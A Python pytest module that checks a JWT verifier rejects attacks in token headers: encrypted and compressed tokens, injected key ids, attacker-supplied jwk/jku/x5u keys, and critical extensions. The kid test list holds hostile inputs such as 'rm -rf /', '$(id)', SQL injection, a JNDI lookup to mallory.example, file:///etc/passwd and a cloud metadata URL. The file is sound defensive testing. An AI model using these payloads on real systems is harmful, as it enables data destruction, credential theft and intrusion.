"""Attacks through header parameters: encryption, compression, key ids, keys, extensions.

RFC 8725, sections 2.3, 2.4, 2.9, 3.3, 3.6 and 3.10.
"""

from typing import Any

import pytest

from backend.domain.auth import (
    InvalidAlgorithmError,
    InvalidSignatureError,
    MalformedTokenError,
    UnknownKeyError,
    UnsupportedTokenError,
)
from backend.testing.encoding import ABSENT, b64, to_json
from backend.testing.signers import signer
from tests.adapters.auth.tokens import NOW, SECRET, secret_signer, token, valid_claims
from tests.adapters.auth.verifiers import assert_rejected, verifier

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize(
    "header",
    [
        {"alg": "dir", "enc": "A256GCM"},
        {"alg": "RSA-OAEP", "enc": "A256GCM"},
        {"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": 2**31 - 1, "p2s": "AAAA"},
        {"alg": "ECDH-ES", "enc": "A256GCM", "epk": {"kty": "EC"}},
        {"alg": "dir", "enc": "A256GCM", "zip": "DEF"},
    ],
    ids=lambda header: header["alg"],
)
async def test_rejects_encrypted_tokens(header: dict[str, Any]) -> None:
    # p2c: CVE-2026-27932 (joserfc), CVE-2023-51775 (jose4j). zip: CVE-2024-33664 (python-jose),
    # CVE-2024-28176 (jose). RSA-OAEP: everyone can encrypt with a public key.
    encoded = b64(to_json(header))
    await assert_rejected(MalformedTokenError, f"{encoded}..AAAA.AAAA.AAAA")
    await assert_rejected(MalformedTokenError, f"{encoded}.AAAA.AAAA.AAAA.AAAA")
    with pytest.raises((UnsupportedTokenError, InvalidAlgorithmError)):
        await verifier().verify(f"{encoded}.AAAA.AAAA")


async def test_rejects_nested_tokens() -> None:
    nested = token().encode()
    await assert_rejected(UnsupportedTokenError, token(header={"cty": "JWT"}, claims=nested))
    await assert_rejected(MalformedTokenError, token(claims=nested))


async def test_rejects_compressed_tokens() -> None:
    await assert_rejected(UnsupportedTokenError, token(header={"zip": "DEF"}))


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/self/environ",
        "key-1' OR '1'='1",
        "x' UNION SELECT 'secret'--",
        "key-1; rm -rf /",
        "| id",
        "$(id)",
        "${jndi:ldap://mallory.example/a}",
        "{{7*7}}",
        "%s%s%n",
        "https://mallory.example/jwks",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "key-1\x00",
        "key-1\n",
        "KEY-1",
        " key-1",
        "key-1 ",
        "k\u0435y-1",
        "__proto__",
        "constructor",
        "*",
        "0",
        "x" * 256,
    ],
)
async def test_a_kid_with_injected_code_is_only_an_unknown_key(kid: str) -> None:
    # The kid is only looked up in a dict.
    await assert_rejected(UnknownKeyError, token(header={"kid": kid}))
    forged = token(secret_signer(b""), header={"kid": kid})  # as if /dev/null were the secret
    await assert_rejected(InvalidSignatureError, forged, secrets=[SECRET])


@pytest.mark.parametrize("kid", [None, 0, 1, True, [], ["key-1"], {}, {"key-1": 1}, "", "x" * 4000])
async def test_rejects_a_kid_that_is_not_a_short_string(kid: object) -> None:
    await assert_rejected(UnsupportedTokenError, token(header={"kid": kid}))


async def test_ignores_keys_in_the_token_header() -> None:
    # CVE-2018-0114 (node-jose), CVE-2026-27962 (Authlib): the key in the header was trusted.
    mallory = signer("EdDSA", "mallory")
    headers: list[dict[str, Any]] = [
        {"jwk": mallory.jwk()},
        {"jwk": mallory.jwk(kid="key-1")},
        {"jwk": {"kty": "oct", "k": "AAAA"}},
        {"jku": "https://mallory.example/jwks.json"},
        {"jku": "file:///dev/stdin"},
        {"x5u": "https://mallory.example/cert.pem"},
        {"x5c": ["MIIB"]},
        {"x5t#S256": "AAAA"},
    ]
    for header in headers:
        await assert_rejected(UnknownKeyError, token(mallory, header=header))
        await assert_rejected(
            InvalidSignatureError, token(mallory, header={**header, "kid": "key-1"})
        )
        without_kid = token(mallory, header={**header, "kid": ABSENT})
        await assert_rejected(InvalidSignatureError, without_kid)


@pytest.mark.parametrize(
    "crit", [["unknown"], ["exp"], ["b64"], ["alg"], ["crit"], [], None, "exp", {}, [1], [[]], [""]]
)
async def test_rejects_critical_extensions(crit: object) -> None:
    # CVE-2026-32597 (PyJWT), CVE-2025-59420 (Authlib), CVE-2026-35042 (fast-jwt).
    header = {"crit": crit, "unknown": 1, "exp": NOW, "": 1}
    await assert_rejected(UnsupportedTokenError, token(header=header))


async def test_rejects_unencoded_payloads() -> None:
    # RFC 7797. CVE-2026-48525 (PyJWT): unlimited work on a payload that is not used.
    for header in ({"b64": False}, {"b64": False, "crit": ["b64"]}, {"b64": True}, {"b64": "no"}):
        await assert_rejected(UnsupportedTokenError, token(header=header))
    header_segment = b64(to_json({"alg": "EdDSA", "kid": "key-1", "b64": False, "crit": ["b64"]}))
    plain = to_json(valid_claims()).decode().replace(".", "")
    signature = b64(signer("EdDSA").sign(f"{header_segment}.{plain}".encode()))
    await assert_rejected(UnsupportedTokenError, f"{header_segment}.{plain}.{signature}")
    await assert_rejected(UnsupportedTokenError, f"{header_segment}..{signature}")
